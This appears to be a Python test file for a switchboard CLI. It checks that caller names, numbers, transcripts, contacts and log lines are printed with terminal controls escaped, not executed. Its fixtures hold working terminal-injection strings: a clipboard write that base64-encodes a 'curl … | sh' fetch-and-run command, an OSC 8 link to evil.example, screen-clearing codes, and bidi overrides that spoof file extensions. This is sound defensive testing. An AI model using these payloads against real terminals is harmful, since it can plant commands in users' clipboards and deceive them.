"""What outsiders wrote reaches the supervisor's terminal as text, never as commands.

A caller chooses their number and display name (SIP headers), what a voicemail
transcript says, and a contact file someone imports. Each hostile value below
goes in through the real stores and lake, out through the real command, and
no terminal control comes out: no ESC (CSI colours, OSC 8 links, OSC 52
clipboard writes), BEL, backspace, CR, C1 control or bidi override, and a tab
or newline inside a value does not make a column or a row. The text around
them stays readable.
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from cli import main as cli
from switchboard.identifiers import printable_text
from switchboard.settings import Settings
from switchboard.store import ProvisioningStore
from tests.fixtures.core import Directory
from tests.fixtures.portal import PORTAL_CALLS, acc_call, build_lake
from tests.fixtures.recorded_calls import add_recording, add_voicemail_transcript, seed_recordings

T = "acme.example"
SB = ["--tenant", T]
# An OSC 52 clipboard write, a red CSI, a backspace, a CR that overwrites the line, a BEL,
# a C1 CSI, an OSC 8 link and a right-to-left override: what a terminal would obey.
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
HOSTILE_NUMBER = f"+15551234567{CLIPBOARD}"
HOSTILE_NAME = f"Mallory{CLIPBOARD}\x1b[31m Red\x08\rBoss\x9b2J\u202eexe.txt"
LINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
HOSTILE_TRANSCRIPT = f"refund please\tfake\tcolumns\nforged row\u2028{LINK}\x07"
# No C0 control but the tab and newline of the table, no DEL, C1, separator or bidi control.
OBEYED = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)


def obeyed(text: str) -> list[str]:
    """The characters of ``text`` a terminal would act on instead of showing."""
    return OBEYED.findall(text)


@pytest.fixture
def lake_env(env: Settings, directory: Directory) -> Settings:
    """The seeded directory, the portal's calls and one from a hostile caller, recordings."""
    hostile = acc_call("h01", "inbound", HOSTILE_NUMBER, "101", "2025-03-12 16:30:00", ring=2,
                       talk=20, caller_name=HOSTILE_NAME)  # fmt: skip
    build_lake(env, [*PORTAL_CALLS, hostile])
    seed_recordings(env)
    return env


def test_printable_text_shows_every_control_and_keeps_the_words() -> None:
    shown = printable_text(HOSTILE_NAME)
    assert obeyed(shown) == [] and "\n" not in shown and "\t" not in shown
    assert shown.startswith("Mallory\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[31m Red\\x08\\r")
    assert shown.endswith("Boss\\x9b2J\\u202eexe.txt")
    assert printable_text("a\tb\nc\u2029d") == "a\\tb\\nc\\u2029d"
    assert printable_text("Zoë\u200dO'Neil +1 555") == "Zoë\u200dO'Neil +1 555"  # joiner stays
    assert printable_text("a\tb\x1b", keep="\t") == "a\tb\\x1b"


def test_a_hostile_caller_and_transcript_are_shown_not_obeyed(
    lake_env: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    at = datetime(2025, 3, 12, 20, 0, 0, tzinfo=UTC)
    rec = "rec-" + "0" * 22 + "66"
    add_recording(lake_env, rec, T, "h01", HOSTILE_NUMBER, "101", at)
    add_voicemail_transcript(lake_env, "vm-hostile", "101", HOSTILE_TRANSCRIPT, at)

    assert cli.main(["recordings", "list", *SB]) == 0
    out = capsys.readouterr().out
    assert obeyed(out) == []
    [line] = [x for x in out.splitlines() if rec in x]
    assert line.split("\t")[1] == "+15551234567\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"

    assert cli.main(["recordings", "search", "refund", *SB]) == 0
    found = capsys.readouterr()
    assert obeyed(found.out) == [] and obeyed(found.err) == []
    [vm] = [x for x in found.out.splitlines() if "vm-hostile" in x]
    assert len(vm.split("\t")) == 6  # the transcript's tabs made no columns
    assert "fake columns forged row \\x1b]8;;https://evil.example" in vm  # words re-spaced


def test_voicemail_search_keeps_a_transcript_in_its_row(
    lake_env: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    at = datetime(2025, 3, 12, 20, 0, 0, tzinfo=UTC)
    add_voicemail_transcript(lake_env, "vm-hostile", "101", HOSTILE_TRANSCRIPT, at)
    assert cli.main(["voicemail", "search", "refund", *SB]) == 0
    out = capsys.readouterr().out
    assert obeyed(out) == []
    [line] = out.splitlines()  # the transcript's newline forged no second row
    cells = line.split("\t")
    assert cells[3] == "vm-hostile"
    assert cells[4].startswith("refund please\\tfake\\tcolumns\\nforged row\\u2028\\x1b]8;;")


def test_hostile_contacts_are_shown_not_obeyed(
    env: Settings, directory: Directory, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The importer refuses controls in a contact's fields, and names the entry it leaves
    out; a bidi override is no control character to it, and is neutralised when listed."""
    source = tmp_path / "contacts.csv"
    source.write_text(
        'name,phone,company\n"Mallory \u202eexe.txt",+1 555 0100,"Acme \u2066Ltd"\n'
        f'"Eve{CLIPBOARD}\x1b[2J\x9b",,\n',
        encoding="utf-8",
    )
    args = [*SB, "--ext", "101"]
    assert cli.main(["contact", "import", str(source), *args]) == 0
    imported = capsys.readouterr()
    assert obeyed(imported.out) == [] and obeyed(imported.err) == []
    assert "line 3 (Eve\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2J\\x9b)" in imported.err

    assert cli.main(["contact", "list", *args]) == 0
    listed = capsys.readouterr().out
    assert obeyed(listed) == []
    assert "Mallory \\u202eexe.txt" in listed and "Acme \\u2066Ltd" in listed

    assert cli.main(["contact", "list", *args, "--json"]) == 0  # JSON escapes on its own
    assert obeyed(capsys.readouterr().out) == []


def test_names_in_lists_and_refusals_are_shown_not_obeyed(
    env: Settings, directory: Directory, capsys: pytest.CaptureFixture[str]
) -> None:
    """Names a manager typed (the store refuses controls in them, not bidi overrides) in
    lists and sentences; a refusal quoting what was typed goes through the same guard."""
    assert cli.main(["tenant", "edit", T, "--name", "Acme \u202e3pm.exe"]) == 0
    assert cli.main(["queue", "add", *SB, "Sales \u2067night\u2069"]) == 0
    assert obeyed(capsys.readouterr().out) == []
    for command in (["tenant", "list"], ["queue", "list", *SB], ["queue", "show", "1", *SB]):
        assert cli.main(command) == 0, command
        out = capsys.readouterr().out
        assert obeyed(out) == [], command
        assert "\\u202e3pm.exe" in out or "Sales \\u2067night\\u2069" in out, command

    assert cli.main(["queue", "member", "add", "1", f"10{CLIPBOARD}", *SB]) == 2
    refused = capsys.readouterr().err
    assert obeyed(refused) == [] and "10\\x1b]52;c;" in refused


def test_a_csv_on_the_terminal_is_guarded_and_in_a_pipe_is_data(
    env: Settings, directory: Directory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``user export`` to stdout: a file's text into a pipe, text a person reads on a tty."""
    ProvisioningStore(env.provisioning_db).update_user(T, "101", name="Ann \u202eevil")

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    for stream, tty in ((Terminal(), True), (io.StringIO(), False)):
        monkeypatch.setattr("sys.stdout", stream)
        assert cli.main(["user", "export", *SB]) == 0
        text = stream.getvalue()
        assert ("Ann \\u202eevil" in text) is tty
        assert ("Ann \u202eevil" in text) is not tty


def test_a_log_record_quoting_an_outsider_is_shown_not_obeyed(tmp_path: Path) -> None:
    """The long-running parts log what callers wrote (a name, a number): the log handler
    writes through the same guard (it was bound to the raw stderr before the guard)."""
    script = (
        "import logging, sys\n"
        "from cli import main as m\n"
        "def part(settings, args):\n"
        f"    logging.getLogger('media').warning('call from %s', {HOSTILE_NAME!r})\n"
        "    return 0\n"
        "m.cmd_run = part\n"
        "sys.exit(m.main(['run']))\n"
    )
    env = {**os.environ, "SWITCHBOARD_DATA_DIR": str(tmp_path / "data"),
           "SWITCHBOARD_CONFIG": str(tmp_path / "none.toml")}  # fmt: skip
    done = subprocess.run([sys.executable, "-c", script], env=env, capture_output=True,
                          text=True, cwd=Path(__file__).resolve().parents[1])  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "call from Mallory\\x1b]52;c;" in done.stderr
    assert obeyed(done.stderr) == []
